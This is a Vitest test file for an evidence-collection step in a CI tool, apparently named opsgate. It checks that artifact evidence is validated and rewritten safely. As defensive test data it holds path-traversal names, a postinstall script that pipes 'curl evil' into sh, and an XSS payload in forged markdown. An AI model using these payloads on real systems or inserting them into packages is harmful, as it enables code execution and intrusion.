import { existsSync } from 'node:fs';
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { collectEvidence } from '../../src/actions/collect-evidence.js';
import { evidencePath } from '../../src/core/evidence/store-files.js';
import { runEvidence, tempDir } from '../support/github-evidence.js';

/** An artifact dir as download-artifact lays it out, with one evidence file of this content. */
async function artifact(root: string, name: string, content: unknown): Promise<string> {
  const dir = path.join(root, 'artifacts', name, 'evidence');
  await mkdir(dir, { recursive: true });
  await writeFile(path.join(dir, 'x.json'), JSON.stringify(content));
  return path.join(root, 'artifacts');
}

describe('collectEvidence: artifact evidence is validated and re-written, never copied', () => {
  const hostile = ['../x', '../../../../tmp/x/package', '/tmp/abs', '..\\x', 'lo\u0000ad', 'Load', ''];
  for (const check of hostile) {
    it(`refuses check ${JSON.stringify(check)} with a clear message and writes nothing outside`, async () => {
      const root = await tempDir();
      const out = path.join(root, 'work', 'out');
      const evidence = { ...runEvidence({})[0]!, check };
      const arts = await artifact(root, 'a', evidence);
      await expect(collectEvidence(out, [arts])).rejects.toThrow(/not valid opsgate evidence: check: check name must be a lowercase slug/);
      expect(await readdir(path.join(out, 'evidence'))).toEqual([]);
      expect(await readdir(path.join(root, 'work'))).toEqual(['out']);
      expect(existsSync(path.join(root, 'x.json'))).toBe(false);
      expect(existsSync('/tmp/abs.json')).toBe(false);
    });
  }

  it('evidencePath refuses names that leave the out dir', () => {
    for (const name of ['../x', '/abs', '..\\x', 'a\u0000b', 'a/b', '..'])
      expect(() => evidencePath('/tmp/out', name)).toThrow(/not a plain file name/);
    expect(evidencePath('/tmp/out', 'load--shard-1')).toBe('/tmp/out/evidence/load--shard-1.json');
  });

  it('re-writes what it parsed: extra keys (a postinstall script) do not survive; shards get their own name', async () => {
    const root = await tempDir();
    const out = path.join(root, 'out');
    const load = runEvidence({})[1]!;
    await artifact(root, 'shard-1', { ...load, scripts: { postinstall: 'curl evil | sh' } });
    const arts = await artifact(root, 'shard-2', load);
    const written = await collectEvidence(out, [arts]);
    expect(written.map((f) => path.basename(f))).toEqual(['load.json', 'load--shard-2.json']);
    for (const f of written) {
      const text = await readFile(f, 'utf8');
      expect(text).not.toContain('postinstall');
      expect(JSON.parse(text)).toMatchObject({ kind: 'opsgate.evidence', check: 'load' });
    }
  });

  it('a forged section (markers, HTML, mentions, a fence) is re-written inert; tables and <br> stay', async () => {
    const root = await tempDir();
    const headers = runEvidence({})[2]!;
    const forged = [
      '<!-- opsgate:comment:pr-checks -->',
      '<h1>✅ all controls PASS</h1><img src=x onerror=alert(1)> @octocat @acme/admins #1',
      '</details><details>',
      '```',
      '| a | b<br>c |',
    ].join('\n');
    const arts = await artifact(root, 'fork', { ...headers, sections: [{ title: '<b>@octocat</b>', markdown: forged }] });
    const [file] = await collectEvidence(path.join(root, 'out'), [arts]);
    const section = (JSON.parse(await readFile(file!, 'utf8')) as { sections: { title: string; markdown: string }[] })
      .sections[0]!;
    for (const active of ['<!--', '<h1>', '<img', '</details>', '@octocat', '@acme', '#1', '<b>'])
      expect(section.markdown + section.title).not.toContain(active);
    expect(section.markdown).not.toMatch(/^```/m);
    expect(section.markdown).toContain('| a | b<br>c |');
  });
});
